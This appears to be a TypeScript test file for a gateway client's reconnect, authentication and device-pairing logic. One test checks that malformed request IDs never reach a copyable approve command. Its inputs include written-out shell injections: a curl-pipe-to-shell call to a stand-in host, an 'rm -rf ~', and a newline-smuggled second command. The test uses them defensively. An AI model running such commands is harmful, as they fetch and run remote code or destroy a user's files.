import assert from 'node:assert/strict';
import { test } from 'node:test';
import { backoffDelay, DEFAULT_RECONNECT_BACKOFF } from './backoff.ts';
import { approveCommand, decide, isGatewayRequestId } from './failure.ts';

const REQUEST_ID = '3f2b8c1e-9a4d-4e6f-8b2a-1c5d7e9f0a2b';
const ctx = { url: 'ws://127.0.0.1:18789', deviceId: 'dev1', attempt: 3, now: 1000, authRetried: false };

test('backoff starts at 250 ms, doubles, caps at 30 s, jitter stays within ±20 %', () => {
  assert.equal(
    backoffDelay(1, DEFAULT_RECONNECT_BACKOFF, () => 0.5),
    250,
  );
  assert.equal(
    backoffDelay(2, DEFAULT_RECONNECT_BACKOFF, () => 0.5),
    500,
  );
  assert.equal(
    backoffDelay(20, DEFAULT_RECONNECT_BACKOFF, () => 0.5),
    30_000,
  );
  assert.equal(
    backoffDelay(20, DEFAULT_RECONNECT_BACKOFF, () => 1),
    30_000,
  );
  assert.equal(
    backoffDelay(1, DEFAULT_RECONNECT_BACKOFF, () => 0),
    200,
  );
  assert.equal(
    backoffDelay(1, DEFAULT_RECONNECT_BACKOFF, () => 1),
    300,
  );
});

test('pairing required: needs-pairing with the requestId from details and no retry loop', () => {
  const d = decide(
    {
      kind: 'connect-error',
      error: {
        code: 'NOT_PAIRED',
        message: 'pairing required',
        details: { code: 'PAIRING_REQUIRED', reason: 'scope-upgrade', requestId: REQUEST_ID },
      },
    },
    ctx,
  );
  assert.deepEqual(d.next, { type: 'wait' });
  assert.equal(d.state.kind, 'needs-pairing');
  assert.ok(
    d.state.kind === 'needs-pairing' &&
      d.state.requestId === REQUEST_ID &&
      d.state.command === `openclaw devices approve ${REQUEST_ID}`,
  );
});

test("a requestId not in the gateway's format never reaches the copyable command: the list step instead", () => {
  for (const bad of [
    'r-1',
    '$(curl evil.example | sh)',
    `${REQUEST_ID}; rm -rf ~`,
    `${REQUEST_ID}\nopenclaw devices approve --latest`,
    ' ' + REQUEST_ID,
    42,
  ]) {
    assert.equal(isGatewayRequestId(bad), false, JSON.stringify(bad));
    const d = decide(
      {
        kind: 'connect-error',
        error: {
          code: 'NOT_PAIRED',
          message: 'pairing required',
          details: { code: 'PAIRING_REQUIRED', reason: 'not-paired', requestId: bad },
        },
      },
      ctx,
    );
    assert.ok(d.state.kind === 'needs-pairing', JSON.stringify(bad));
    assert.equal(d.state.command, 'openclaw devices list');
    assert.equal(d.state.requestId, undefined);
    assert.deepEqual(d.next, { type: 'wait' });
  }
  assert.equal(approveCommand(undefined), 'openclaw devices list');
  assert.equal(
    approveCommand(REQUEST_ID.toUpperCase()),
    `openclaw devices approve ${REQUEST_ID.toUpperCase()}`,
  );
});

test('delays the gateway chose are clamped in the decision: 0, negative and 1e12', () => {
  const unavailable = (retryAfterMs: number) =>
    decide(
      {
        kind: 'connect-error',
        error: { code: 'UNAVAILABLE', message: 'busy', retryable: true, retryAfterMs },
      },
      ctx,
    ).next;
  assert.deepEqual(unavailable(0), { type: 'retry', delayMs: 0 });
  assert.deepEqual(unavailable(-5000), { type: 'retry', delayMs: 0 });
  assert.deepEqual(unavailable(1e12), { type: 'retry', delayMs: 5 * 60_000 });
  const restart = decide({ kind: 'closed', code: 1012, reason: '', restartExpectedMs: 1e12 }, ctx);
  assert.deepEqual(restart.next, { type: 'retry', delayMs: 5 * 60_000 });
  assert.ok(restart.state.kind === 'reconnecting' && restart.state.nextTryAt === ctx.now + 5 * 60_000);
});

test('refusals before any secret is sent: a foreign listener retries on the backoff, an insecure URL waits', () => {
  const foreign = decide({ kind: 'untrusted-listener', message: 'Port 18789 is held by nobody' }, ctx);
  assert.deepEqual(foreign.next, { type: 'retry', delayMs: null });
  assert.ok(
    foreign.state.kind === 'reconnecting' && foreign.state.lastError === 'Port 18789 is held by nobody',
  );
  const insecure = decide({ kind: 'insecure-url', message: 'not over ws://' }, ctx);
  assert.deepEqual(insecure.next, { type: 'wait' });
  assert.ok(insecure.state.kind === 'auth-failed' && insecure.state.code === 'INSECURE_URL');
});

test('auth failure: the detail code and next step, one more try, then wait', () => {
  const err = {
    code: 'INVALID_REQUEST',
    message: 'unauthorized',
    details: { code: 'AUTH_TOKEN_MISMATCH', recommendedNextStep: 'update_auth_credentials' },
  };
  const first = decide({ kind: 'connect-error', error: err }, ctx);
  assert.deepEqual(first.next, { type: 'retry-once' });
  assert.ok(
    first.state.kind === 'auth-failed' &&
      first.state.code === 'AUTH_TOKEN_MISMATCH' &&
      first.state.nextStep === 'update_auth_credentials',
  );
  assert.deepEqual(decide({ kind: 'connect-error', error: err }, { ...ctx, authRetried: true }).next, {
    type: 'wait',
  });
  const limited = { ...err, details: { code: 'AUTH_RATE_LIMITED' } };
  assert.deepEqual(decide({ kind: 'connect-error', error: limited }, ctx).next, { type: 'wait' });
  // A locked keychain: the retry would read it again (test/faults/core.test.ts shows it end to end).
  const keychain = {
    code: 'KEYCHAIN_UNAVAILABLE',
    message: 'locked',
    details: { code: 'KEYCHAIN_UNAVAILABLE' },
  };
  assert.deepEqual(decide({ kind: 'connect-error', error: keychain }, ctx).next, { type: 'wait' });
});

test('1013 / UNAVAILABLE honours retryAfterMs; 1012 honours restartExpectedMs; 4001 re-authenticates at once', () => {
  const starting = decide(
    {
      kind: 'connect-error',
      error: { code: 'UNAVAILABLE', message: 'starting', retryable: true, retryAfterMs: 1500 },
    },
    ctx,
  );
  assert.deepEqual(starting.next, { type: 'retry', delayMs: 1500 });
  assert.deepEqual(
    decide({ kind: 'closed', code: 1012, reason: 'service restart', restartExpectedMs: 4000 }, ctx).next,
    {
      type: 'retry',
      delayMs: 4000,
    },
  );
  assert.deepEqual(decide({ kind: 'closed', code: 4001, reason: 'device removed' }, ctx).next, {
    type: 'retry',
    delayMs: 0,
  });
  assert.equal(decide({ kind: 'closed', code: 1002, reason: '' }, ctx).state.kind, 'protocol-mismatch');
  assert.equal(decide({ kind: 'refused', message: 'ECONNREFUSED' }, ctx).state.kind, 'gateway-down');
});
